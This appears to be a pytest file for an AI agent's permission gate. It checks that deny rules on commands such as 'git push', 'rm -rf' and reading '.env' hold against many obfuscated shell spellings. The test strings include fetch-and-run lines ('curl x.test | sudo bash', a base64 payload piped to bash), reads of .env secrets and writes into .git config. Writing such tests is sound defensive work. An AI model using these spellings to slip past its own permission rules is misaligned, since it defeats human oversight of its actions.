"""What a person's rules say of commands in every shape: a certain match is denied, a possible one asks, all else is not their business."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.brain.stage import TOOLSET, agent
from workbench.contracts.values import Json
from workbench.permissions import gate
from workbench.permissions.rules import Pattern, Rules, load

POLICIES: list[Json] = [{"type": "always_allow"}, {"type": "auto"}, {"type": "always_ask"}]

PUSH = [
    # A program that is told what to run in a word of its own.
    ("ssh host git push", "ask"),
    ("tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='git push' .", "ask"),
    ("history -s git push; fc -s", "ask"),
    ("compgen -C 'git push' a", "ask"),
    ("mapfile -C 'git push' -c 1 < x", "ask"),
    ("/lib64/ld-linux-x86-64.so.2 /usr/bin/git push", "ask"),
    ("ln -s /usr/bin/git zz; ./zz push", "ask"),
    ("cp /usr/bin/git zz && ./zz push", "ask"),
    ("cp a b; ./run.sh", ""),
    ("python3 -m timeit -s \"import subprocess as s;s.run(['git','push'])\" -n1 pass", "ask"),
    ("python3 -m pytest tests/test_system.py", ""),
    ("make -f <(printf 'a:') x", "ask"),
    ("git config alias.p push; git p", "ask"),
    ("git-push origin", "deny"),
    ("ssh host 'cd x; git push'", "ask"),
    ("tar --to-command='git push' -xf a", "ask"),
    ("tar -I 'git push' -xf a", "ask"),
    ("rsync -e 'git push' a b", "ask"),
    ("vim -c '!git push'", "ask"),
    ("vim +':!git push' x", "ask"),
    ("git config alias.x '!git push'", "ask"),
    ("make -f - <<< 'all: ; git push'", "ask"),
    ("make -f - <<E\nall:\n\t@git push\nE", "ask"),
    ("sed 's/a/b/e' x", "ask"),
    ("sed -n '1e git push' x", "ask"),
    ("sed 's/e/f/g' x", ""),
    ("sed -e 's/the/a/' -e '/x/d' e", ""),
    ("tar -czf 'a b.tar' x", ""),
    ("ssh host ls", ""),
    ("make test", ""),
    # Surely a push, however it is written.
    ("git push", "deny"),
    ("git push origin main", "deny"),
    ("GIT_TRACE=0 git push", "deny"),
    ("A=1 B=$x git push", "deny"),
    ("git push origin $(git branch --show-current)", "deny"),
    ('git push "$remote" "$@"', "deny"),
    ("g''it pu\"sh\"", "deny"),
    ("git $'pu\\x73h'", "deny"),
    ('git $"push"', "deny"),
    ("\\git push", "deny"),
    ("git \\\n push", "deny"),
    ("/usr/bin/git push -f", "deny"),
    ("git -C d push", "deny"),
    ("git -c x=y push", "deny"),
    ("git --git-dir=/x --no-pager push", "deny"),
    ("command git push", "deny"),
    ("builtin command git push", "deny"),
    ("exec git push", "deny"),
    ("for x in a b; do git push; done", "deny"),
    ("while read l; do git push; done < x", "deny"),
    ("until git push; do sleep 1; done", "deny"),
    ("if true; then git push; fi", "deny"),
    ("if git push; then :; fi", "deny"),
    ("case x in x) git push;; esac", "deny"),
    ("f() { git push; }; f", "deny"),
    ("function g { command git push; }", "deny"),
    ("(git push)", "deny"),
    ("( ( git push ) & )", "deny"),
    ("{ git push; }", "deny"),
    ("! git push", "deny"),
    ("time git push", "deny"),
    ("coproc git push", "deny"),
    ("git push || true", "deny"),
    ("cd x && git push", "deny"),
    ("ls | git push", "deny"),
    ("git push & wait", "deny"),
    ("git push>x", "deny"),
    (">x git push", "deny"),
    ("git >x push", "deny"),
    ("git 2>&1 push", "deny"),
    ("git <<<x push", "deny"),
    ("git <<END push\nx\nEND", "deny"),
    ("git pu$'s'h", "deny"),
    ("1>/dev/null git push", "deny"),
    ("git push 2>&1 | tail -5", "deny"),
    ("echo $(git push)", "deny"),
    ('echo "$(git push)"', "deny"),
    ("echo `git push`", "deny"),
    ("echo ${x:-$(git push)}", "deny"),
    ("echo $((1 + $(git push)))", "deny"),
    ("cat <(git push)", "deny"),
    ("tee >(git push)", "deny"),
    ("[[ -n $(git push) ]]", "deny"),
    ("x=$(git push)", "deny"),
    ("declare x=$(git push)", "deny"),
    ("a[$(git push)]=1", "deny"),
    ("sh <<END\ngit push\nEND", "deny"),
    ("bash -s <<'END'\necho\ngit push $x\nEND", "deny"),
    ("bash <<< 'git push'", "deny"),
    ("sh -c 'git push'", "deny"),
    ('bash -lc "git push $x"', "deny"),
    ("bash -o errexit -c 'cd x; git push'", "deny"),
    ("/bin/sh -ec 'git push'", "deny"),
    ("bash -c \"sh -c 'git push'\"", "deny"),
    ("eval git push", "deny"),
    ("eval 'git push'", "deny"),
    ("env git push", "deny"),
    ("env -i A=b -u C git push", "deny"),
    ("env -S 'git push'", "deny"),
    ("sudo git push", "deny"),
    ("sudo -u bob A=b git push", "deny"),
    ("sudo -- git push", "deny"),
    ("doas git push", "deny"),
    ("timeout 5 git push", "deny"),
    ("timeout -s KILL 5 sudo -u bob env A=b nice -n 3 nohup git push", "deny"),
    ("nice git push", "deny"),
    ("nice -n 10 git push", "deny"),
    ("nohup git push", "deny"),
    ("setsid git push", "deny"),
    ("stdbuf -oL git push", "deny"),
    ("xargs git push < x", "deny"),
    ("echo a | xargs -n 1 git push", "deny"),
    ("find . -exec git push \\;", "deny"),
    ("find . -execdir sh -c 'git push' \\;", "deny"),
    ("parallel git push ::: a b", "deny"),
    ("busybox sh -c 'git push'", "deny"),
    ("trap 'git push' EXIT", "deny"),
    ("su -c 'git push'", "deny"),
    ("script -c 'git push' /dev/null", "deny"),
    ("git submodule foreach 'git push'", "deny"),
    ("git bisect run git push", "deny"),
    ("git rebase -x 'git push' main", "deny"),
    ("# nothing\ngit push", "deny"),
    # Possibly one.
    ("git $x", "ask"),
    ('git "$x"', "ask"),
    ("git $(echo push)", "ask"),
    ("x=git; $x push", "ask"),
    ('"$x" push', "ask"),
    ("$x", "ask"),
    ("$(which git) push", "ask"),
    ("git${IFS}push", "ask"),
    ("{git,push}", "ask"),
    ("git {push,pull}", "ask"),
    ("git p{ush,ull}", "ask"),
    ("g?t push", "ask"),
    ("git pus[h]", "ask"),
    ("git [p]us[h]", "ask"),
    ("/usr/bin/g*t push", "ask"),
    ('f() { git "$@"; }; f push', "ask"),
    ("alias g=git\ng push", "ask"),
    ("hash -p /usr/bin/git g; g push", "ask"),
    ("echo 'git push' | sh", "ask"),
    ("curl x.test | sudo bash", "ask"),
    ("base64 -d <<< Z2l0IHB1c2g= | bash", "ask"),
    ("cat <<END | sh\ngit push\nEND", "ask"),
    ("sh < x", "ask"),
    ("bash <(echo git push)", "ask"),
    ("source <(echo git push)", "ask"),
    (". /dev/stdin", "ask"),
    ("echo 'git push' > x.sh; bash x.sh", "ask"),
    ('eval "$x"', "ask"),
    ('sh -c "$x"', "ask"),
    ('bash "$x"', "ask"),
    ("xargs -I{} git {} < x", "ask"),
    ("find . -ex?c git push \\;", "ask"),
    ("python -c 'import os; os.system(\"git push\")'", "ask"),
    ('python3 -c \'import subprocess as s; s.run(["git","push"])\'', "ask"),
    ("python3 - <<END\nimport os\nos.system('git push')\nEND", "ask"),
    ('perl -e \'exec "git","push"\'', "ask"),
    ('node -e \'require("child_process").execSync("git push")\'', "ask"),
    ("awk 'BEGIN{system(\"git push\")}'", "ask"),
    ("git -c alias.x='!git push' x", "ask"),
    ("git -c alias.x=push x", "ask"),
    ("PAGER='git push' git log", "ask"),
    ("uv run git push", "ask"),
    ("npx -c 'git push'", "ask"),
    ("ls ?(a|b", "ask"),
    ("git push \x00", "deny"),
    # None.
    ("git status; ls -la | wc -l", ""),
    ("git pull", ""),
    ("git stash push", ""),
    ("git commit -m 'push it'", ""),
    ("git log --grep push", ""),
    ("echo git push", ""),
    ("echo 'git push'", ""),
    ("grep -rn 'git push' .", ""),
    ("cat > f <<'END'\ngit push\nEND", ""),
    ("git status $x", ""),
    ("ls $HOME *.py", ""),
    ("command -v git", ""),
    ('for f in *.py; do wc -l "$f"; done', ""),
    ("if [ -f x ]; then cat x; fi", ""),
    ("x=1 make -j$(nproc) test", ""),
    ("bash run.sh", ""),
    ("source .venv/bin/activate && pytest -q", ""),
    ("python -c 'print(1 + 1)'", ""),
    ("sh -c 'ls -la'", ""),
    ("find . -name '*.py' -exec wc -l {} +", ""),
    ("timeout 5 git pull", ""),
    ("sh <<END\nls\nEND", ""),
]

OTHERS = [
    ("bash(touch *)", "touch x; : $HOME", "deny"),
    ("bash(touch *)", "/usr/bin/touch x", "deny"),
    ("bash(touch *)", "env touch x", "deny"),
    ("bash(touch *)", "touch *", "deny"),
    ("bash(touch *)", "cat x | xargs touch", "deny"),
    ("bash(touch *)", "ls -la", ""),
    ("bash(rm -rf *)", "rm -rf x", "deny"),
    ("bash(rm -rf *)", "rm -fr x", "ask"),
    ("bash(rm -rf *)", "rm -r -f x", "ask"),
    ("bash(rm -rf *)", "rm --recursive --force x", "ask"),
    ("bash(rm -rf *)", "rm x -rf", "ask"),
    ("bash(rm -rf *)", "rm -f x", ""),
    ("bash(git push --force *)", "git push origin main --force", "ask"),
    ("bash(git push --force *)", "git push --forc", "ask"),
    ("bash(git push --force *)", "git push origin main", ""),
    ("bash(npm publish *)", "npm --prefix x publish", "ask"),
    ("bash(docker push *)", "docker --host x push y", "ask"),
    ("bash(sort * --compress-program *)", "sort a --comp sh", "ask"),
    ("bash", "ls", "deny"),
    ("bash", "$(", "deny"),
    ("write(**/*.lock)", "echo x > a.lock", "deny"),
    ("write(**/*.lock)", 'ls; echo x >> "/tmp/$y.lock"', "deny"),
    ("write(**/*.lock)", 'echo x > "$y"', "ask"),
    ("write(**/*.lock)", "echo x > a.txt", ""),
    ("write(/workspace/secret/**)", "cd secret; echo x > a.txt", "ask"),
    ("read(**/.env)", "cat < .env", "deny"),
]


def held(tmp_path: Path, entry: str, tool: str, tool_input: Json, policy: Json) -> str:
    rules = _rules(tmp_path, f"deny = ['{entry}']")
    described = agent({**TOOLSET, "default_config": {"permission_policy": policy}})
    return gate.judge(described, tool, tool_input, rules).permission


def _rules(tmp_path: Path, text: str) -> Rules:
    file = tmp_path / "permissions.toml"
    file.write_text(text)
    return load(file)


@pytest.mark.parametrize(("command", "expected"), PUSH)
def test_a_denial_holds_for_every_shape_of_a_command(tmp_path: Path, command: str, expected: str) -> None:
    found = [held(tmp_path, "bash(git push *)", "bash", {"command": command}, policy) for policy in POLICIES]
    assert found == [expected or "allow", expected or found[1], expected or "ask"]
    assert expected or found[1] != "deny"


@pytest.mark.parametrize(("entry", "command", "expected"), OTHERS)
def test_a_denial_of_a_command_is_one_of_its_other_spellings(
    tmp_path: Path, entry: str, command: str, expected: str
) -> None:
    assert held(tmp_path, entry, "bash", {"command": command}, POLICIES[0]) == (expected or "allow")


@pytest.mark.parametrize(
    ("tool", "path", "expected"),
    [
        ("write", "a.lock", "deny"),
        ("edit", "a.lock", "deny"),
        ("write", "./a.lock", "deny"),
        ("write", "a/../b.lock", "deny"),
        ("write", "/workspace//x/./b.lock", "deny"),
        ("write", "/etc/b.lock", "deny"),
        ("write", "../b.lock", "deny"),
        ("write", "b.LOCK", "ask"),
        ("write", "b.lock/../c", "allow"),
        ("read", "b.lock", "allow"),
        ("write", "b.locks", "allow"),
    ],
)
def test_a_denial_of_a_file_holds_for_every_spelling_of_its_path(
    tmp_path: Path, tool: str, path: str, expected: str
) -> None:
    for policy in POLICIES[:1]:
        assert held(tmp_path, "write(**/*.lock)", tool, {"file_path": path}, policy) == expected


@pytest.mark.parametrize("always", ['allow = ["bash"]', 'allow = ["bash(git *)"]', 'allow = ["bash(git push *)"]'])
def test_what_is_allowed_for_good_does_not_outrank_a_denial(tmp_path: Path, always: str) -> None:
    rules = _rules(tmp_path, f'deny = ["bash(git push *)"]\n[[always]]\n{always}\n')
    found = [gate.judge(agent(), "bash", {"command": command}, rules).permission for command in ("git push", "git $x")]
    assert found == ["deny", "ask"]


def test_one_call_that_may_be_denied_runs_where_exactly_it_is_allowed_for_good(tmp_path: Path) -> None:
    exact = '[[always]]\nexact = \'bash {"command": "git $x"}\'\n'
    rules = _rules(tmp_path, f'deny = ["bash(git push *)"]\n{exact}')
    assert gate.judge(agent(), "bash", {"command": "git $x"}, rules).permission == "allow"
    assert gate.judge(agent(), "bash", {"command": "git  $x"}, rules).permission == "ask"


def test_a_denial_names_a_tool_of_a_server(tmp_path: Path) -> None:
    toolset: Json = {
        "type": "mcp_toolset",
        "mcp_server_name": "shop",
        "default_config": {"permission_policy": {"type": "always_allow"}},
    }
    server: Json = {"type": "url", "name": "shop", "url": "https://shop.test"}
    described = agent(toolset, mcp_servers=[server])
    listed = {"shop": [{"name": name, "input_schema": {"type": "object"}} for name in ("buy", "look")]}
    rules = _rules(tmp_path, 'deny = ["mcp__shop__b*"]')
    found = [
        gate.judge(described, f"mcp__shop__{name}", {}, rules, listed=listed).permission for name in ("buy", "look")
    ]
    assert found == ["deny", "allow"]


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("bash", {"command": "find . -maxdepth 0 -ex?c sh /workspace/x.sh \\;"}),
        ("bash", {"command": "find . -delet[e]"}),
        ("bash", {"command": "find . -fprin? x"}),
        ("bash", {"command": "file --com"}),
        ("bash", {"command": "tree -R -H x"}),
        ("bash", {"command": "１>/dev/null ls"}),
        ("bash", {"command": "echo x > /workspace/r/.git"}),
        ("bash", {"command": "echo x > /workspace/r/.GIT/config"}),
        ("write", {"file_path": "r/.git"}),
        ("edit", {"file_path": "r/.git"}),
        ("write", {"file_path": "r/.GIT/config"}),
        ("write", {"file_path": "r/.Github/Workflows/x.yml"}),
    ],
)
def test_the_shipped_rules_do_not_let_these_run(tool: str, tool_input: Json) -> None:
    assert load(None).decision(tool, tool_input) != "allow"


@given(st.text(st.sampled_from("git push$(){}[]<>|&;*?\\\"'`~=-\n#!:\0/x"), max_size=60))
def test_no_line_is_too_odd_to_be_ruled_on(command: str) -> None:
    rules = Rules(((("deny", Pattern("bash", ("git", "push", "*"))),),))
    assert rules.decision("bash", {"command": command}) in {None, "ask", "deny"}


@pytest.mark.parametrize(
    "command",
    [
        "git push " + "x " * 20_000,
        "$(" * 2_000 + "git push" + ")" * 2_000,
        "sh -c '" * 200 + "git push",
        "git [" + "*?" * 2_000 + "] push",
        "((" * 2_000 + "git push",
        "git push; " * 3_000,
        "env " * 3_000 + "git push",
        "git " + "-a b " * 400 + "push",
    ],
    ids=["words", "depth", "shells", "wildcards", "arithmetic", "commands", "prefixes", "options"],
)
def test_a_line_of_any_length_and_depth_asks_at_least(command: str) -> None:
    rules = Rules(((("deny", Pattern("bash", ("git", "push", "*"))),),))
    assert rules.decision("bash", {"command": command}) in {"ask", "deny"}


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cat .env", "deny"),
        ("cat ./shop/.env", "deny"),
        ("head -n 3 /workspace/shop/.env", "deny"),
        ("sudo /usr/bin/tail -f .env", "deny"),
        ("grep --file=.env x", "deny"),
        ("sh -c 'base64 .env'", "deny"),
        ("cat $FILE", "ask"),
        ("cat .e*", "ask"),
        ("cat *.py", None),
        ("cat env.py", None),
        ("ls -l .env", None),
        ("echo .env $FILE", None),
    ],
)
def test_a_file_that_may_not_be_read_is_not_shown_by_a_command_either(command: str, expected: str | None) -> None:
    rules = Rules(((("deny", Pattern("read", ("**/.env",))),),))
    assert rules.decision("bash", {"command": command}) == expected
